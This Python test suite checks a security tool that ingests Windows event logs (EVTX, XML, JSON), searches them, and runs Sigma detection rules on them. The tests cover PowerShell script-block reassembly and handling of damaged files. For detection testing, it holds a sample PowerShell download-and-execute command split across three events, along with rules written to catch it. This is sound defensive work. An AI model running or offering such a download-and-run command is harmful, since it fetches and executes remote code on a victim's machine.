#!/usr/bin/env python3
"""Windows events as files: EVTX, XML of Event Viewer and wevtutil, JSON; imported, searched, shown to rules."""
import collections
import glob
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time

from service import QORGAN, ROOT, Service, Skip, check, check_equal, main
from web_api import Web

SHARED = os.path.join(ROOT, "..", "shared", "data")
SIGMA = os.path.join(SHARED, "sigma")
RULES = ("rules", "rules-emerging-threats", "rules-threat-hunting", "rules-compliance")


def shared(path):
    full = os.path.join(SHARED, path)
    if not os.path.exists(full):
        raise Skip(f"../shared/data/{path} is not there")
    return full


class Folder:
    def __enter__(self):
        self.path = tempfile.mkdtemp(prefix="qorgan-windows-")
        return self

    def __exit__(self, *_):
        shutil.rmtree(self.path, ignore_errors=True)

    def file(self, name, content):
        path = os.path.join(self.path, name)
        with open(path, "wb") as out:
            out.write(content)
        return path

    def ingest(self, *arguments, status=0, **more):
        done = subprocess.run([QORGAN, "ingest", "--json", "--data", os.path.join(self.path, "data"), *arguments],
                              capture_output=True, text=True, check=False, timeout=120, **more)
        check_equal(done.returncode, status, f"status of ingest {arguments}: {done.stderr[-500:]}")
        return [json.loads(line) for line in done.stdout.splitlines()], done.stderr

    def search(self, query):
        done = subprocess.run([QORGAN, "search", "--json", "--data", os.path.join(self.path, "data"), query],
                              capture_output=True, text=True, check=True, timeout=120)
        hits = [json.loads(line) for line in done.stdout.splitlines()]
        return [hit for hit in hits if hit["type"] in ("raw", "digest")]


def event(number, name="Image", value="C:\\x.exe"):
    return (f"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>\n  <System>\n"
            f"    <Provider Name='Microsoft-Windows-Sysmon'/>\n    <EventID>1</EventID>\n"
            f"    <TimeCreated SystemTime='2026-11-21T11:00:00.1234567Z'/>\n"
            f"    <EventRecordID>{number}</EventRecordID>\n"
            f"    <Channel>Microsoft-Windows-Sysmon/Operational</Channel>\n    <Computer>ws1</Computer>\n  </System>\n"
            f"  <EventData>\n    <Data Name='{name}'>{value}</Data>\n  </EventData>\n</Event>")


def detect(*arguments, status=0):
    done = subprocess.run([QORGAN, "detect", "--json", *arguments], capture_output=True, text=True, check=False,
                          timeout=300)
    check_equal(done.returncode, status, f"status of detect: {done.stderr[-500:]}")
    return [json.loads(line) for line in done.stdout.splitlines()], done.stderr


def all_rules():
    return [part for folder in RULES for part in ("--rules", shared(os.path.join("sigma", folder)))]


def xml_files():
    """a file of XML events becomes as many records, pretty-printed, in one line, cut short; a second run adds none"""
    with Folder() as folder:
        many = [event(n, "CommandLine", f"run &lt;{n}&gt;\nsecond line") for n in range(3000)]
        pretty = "<?xml version='1.0' encoding='utf-8' standalone='yes'?>\n<Events>" + "\n".join(many) + "</Events>\n"
        flat = "".join(event(9000 + n).replace("\n", "") for n in range(5))
        paths = [folder.file("pretty.xml", b"\xef\xbb\xbf" + pretty.encode()), folder.file("flat.xml", flat.encode()),
                 folder.file("short.xml", (event(1) + event(2)[:200]).encode()),
                 folder.file("none.xml", b"<Events></Events>")]
        counts = [row["records"] for row in folder.ingest(*paths)[0]]
        check_equal(counts, [3000, 5, 2, 0], "records of each file")
        check_equal([row["records"] for row in folder.ingest(*paths)[0]], [0, 0, 0, 0], "records of a second run")
        hits = folder.search("EventID:1 EventRecordID:2999")
        check_equal(len(hits), 1, "hits of one event")
        check_equal(hits[0]["fields"]["CommandLine"], "run <2999>\nsecond line", "its command line")
        understood = folder.search("Channel:\"Microsoft-Windows-Sysmon/Operational\" | head 5000")
        check_equal(len(understood), 3006, "records that were understood")


def long_events():
    """an event over a mebibyte is cut, told, and takes none of its neighbours along, wherever reads end in it"""
    with Folder() as folder:
        begin = "<Event><EventData><Data Name='A'>"
        for edge in (0, 4, 7, 8, 9):  # </Event> stands across the end of a read of 256 KiB, or beside it
            size = 5 * (256 << 10) - edge - len(begin)
            text = begin + "x" * size + "</Event>" + event(1).replace("\n", "") + event(2).replace("\n", "")
            row = folder.ingest(folder.file(f"long-{edge}.xml", text.encode()))[0][0]
            check_equal([row["records"], row["cut"]], [3, 1], f"{edge} bytes before the edge")


def evtx_files():
    """EVTX: each event is a record with its fields; hexadecimal numbers stand as Windows writes them"""
    paths = sorted(glob.glob(shared("evtx-attack-samples") + "/*/*.evtx"))
    with Folder() as folder:
        rows, said = folder.ingest(*paths)
        check_equal(said, "", "complaints")
        check_equal(len(rows), len(paths), "files")
        total = sum(row["records"] for row in rows)
        check(total > 4000, f"{total} events of {len(paths)} files")
        access = {hit["fields"]["GrantedAccess"] for hit in folder.search("GrantedAccess:* | head 5000")}
        check("0x1fffff" in access and not any(value.startswith("0x0") for value in access), f"accesses {access}")
        check_equal(len(folder.search("not EventID:* | head 10")), 0, "events without an id")
        print(f"# {total} events of {len(paths)} files")


SCRIPT = ("$c = New-Object Net.WebCl", "ient; $c.DownloadFile('http://192.0.2.1/x', 'x'); ", "Start-Process x")
SCRIPT_RULES = {
    "both": ("all", ["New-Object", "Start-Process"], "11111111-1111-4111-8111-111111111111"),
    "cut": ("all", ["Net.WebClient"], "22222222-2222-4222-8222-222222222222"),
    "one": ("all", ["DownloadFile"], "33333333-3333-4333-8333-333333333333"),
    "never": ("all", ["New-Object", "absent"], "44444444-4444-4444-8444-444444444444"),
}


def script_rules(folder):
    for name, (modifier, words, identity) in SCRIPT_RULES.items():
        folder.file(f"{name}.yml", (
            f"title: {name}\nid: {identity}\nlogsource:\n    product: windows\n    category: ps_script\ndetection:\n"
            f"    s:\n        ScriptBlockText|contains|{modifier}: {json.dumps(words)}\n    condition: s\n"
            "level: high\n").encode())


def script_piece(form, number, total=3, block="b1"):
    fields = {"MessageNumber": str(number), "MessageTotal": str(total), "ScriptBlockText": SCRIPT[number - 1],
              "ScriptBlockId": block, "Path": ""}
    channel = "Microsoft-Windows-PowerShell/Operational"
    if form == "xml":
        quoted = {name: value.replace("'", "&apos;") for name, value in fields.items()}
        data = "".join(f"<Data Name='{name}'>{value}</Data>" for name, value in quoted.items())
        return (f"<Event><System><EventID>4104</EventID><Channel>{channel}</Channel><Computer>ws1</Computer></System>"
                f"<EventData>{data}</EventData></Event>\n")
    if form == "winlogbeat":
        return json.dumps({"winlog": {"channel": channel, "event_id": "4104", "computer_name": "ws1",
                                      "event_data": fields}}) + "\n"
    return json.dumps({"Channel": channel, "EventID": 4104, "Hostname": "ws1", **fields}) + "\n"


def script_blocks():
    """a script over three events 4104: rules see the whole, once; what lacks a part is matched as far as it came"""
    whole = collections.Counter(("both", "cut", "one"))
    with Folder() as folder:
        script_rules(folder)
        for form in ("xml", "winlogbeat", "nxlog"):
            for order in ((1, 2, 3), (3, 1, 2)):
                path = folder.file("script.log", "".join(script_piece(form, n) for n in order).encode())
                rows, said = detect("--rules", folder.path, path)
                check_equal(collections.Counter(row["title"] for row in rows), whole, f"{form} in the order {order}")
                check_equal(said, "", "complaints")
            path = folder.file("script.log", (script_piece(form, 1) + script_piece(form, 3)).encode())
            rows, said = detect("--rules", folder.path, path)
            check_equal([row["title"] for row in rows], ["both"], f"{form} without its second part")
            check("1 PowerShell scripts lack pieces" in said, said)
            path = folder.file("script.log", (script_piece(form, 1) + script_piece(form, 2, block="b2")).encode())
            check_equal([row["title"] for row in detect("--rules", folder.path, path)[0]], ["one"], "of two scripts")
        folder.file("both.must.xml", "".join(script_piece("xml", n) for n in (1, 2, 3)).encode())
        folder.file("both.not.xml", "".join(script_piece("xml", n) for n in (1, 2)).encode())
        done = subprocess.run([QORGAN, "rules", "test", folder.path], capture_output=True, text=True, check=False,
                              timeout=60)
        check("2 passed, 0 failed" in done.stdout, done.stdout + done.stderr)


def script_blocks_in_service():
    """the service joins them too, also when its engine dies between two parts"""
    with Folder() as folder:
        script_rules(folder)
        with Service(rules=folder.path, engines=2) as service:
            web = Web(service)
            service.tcp(script_piece("nxlog", 1).encode())
            service.wait_for("ScriptBlockText:*", 1)
            for pid in service.pids("engine"):
                os.kill(pid, signal.SIGKILL)
            service.tcp((script_piece("nxlog", 2) + script_piece("nxlog", 3)).encode())
            deadline = time.time() + 90
            titles = []
            while time.time() < deadline and len(titles) < 3:
                titles = sorted(row["title"] for row in web.ask("incident.list", state="all")["incidents"])
                time.sleep(0.3)
            check_equal(titles, ["both", "cut", "one"], "incidents")


def golden():
    """all public rules on all regression cases: exactly the firings of the golden file, from EVTX and from JSON"""
    with open(shared("sigma/regression_all_rules.json"), encoding="utf-8") as file:
        want = json.load(file)
    for ending in (".evtx", ".json"):
        files = [name[:-5] + ending for name in want if os.path.exists(os.path.join(SIGMA, name[:-5] + ending))]
        got = collections.defaultdict(collections.Counter)
        for row in detect(*all_rules(), *(os.path.join(SIGMA, name) for name in files))[0]:
            got[os.path.relpath(row["file"], SIGMA)[:-5] + ".evtx"][row["rule_id"]] += 1
        check(len(files) >= 90, f"{len(files)} cases with {ending}")
        for name in files:
            check_equal(dict(got[name[:-5] + ".evtx"]), want[name[:-5] + ".evtx"], f"what fires on {name}")
        print(f"# {ending}: {len(files)} files, {sum(sum(c.values()) for c in got.values())} firings, no difference")


def damaged():
    """a damaged EVTX file: what can be read is kept, what cannot is told, status 1; a stranger's file is refused"""
    paths = sorted(glob.glob(shared("evtx-attack-samples") + "/*/*.evtx"), key=os.path.getsize)
    with open(next(path for path in paths if os.path.getsize(path) > 140000), "rb") as file:
        whole = file.read()
    with Folder() as folder:
        all_of_it = folder.ingest(folder.file("whole.evtx", whole))[0][0]["records"]
        half = folder.file("half.evtx", whole[:4096 + 65536])
        kept = folder.ingest(half, status=1)[0][0]
        check(0 < kept["records"] < all_of_it and kept["damaged"], f"half a file: {kept}, of {all_of_it}")
        _, said = folder.ingest(folder.file("stranger.evtx", b"ElfFile\0" + b"x" * 9000), status=1)
        check("cannot be read" in said, f"a stranger's file: {said}")
        flips = 0
        for at in range(4096 + 600, len(whole), len(whole) // 40):
            flipped = bytearray(whole)
            flipped[at] ^= 0xff
            done = subprocess.run([QORGAN, "detect", "--rules", os.path.join(ROOT, "data/rules/windows"),
                                   folder.file("flip.evtx", flipped)], capture_output=True, check=False, timeout=60)
            check(done.returncode in (0, 1), f"byte {at} flipped: status {done.returncode}")
            flips += 1
        check(flips >= 40, f"{flips} bytes flipped")


if __name__ == "__main__":
    sys.exit(main([xml_files, long_events, evtx_files, script_blocks, script_blocks_in_service, golden, damaged]))
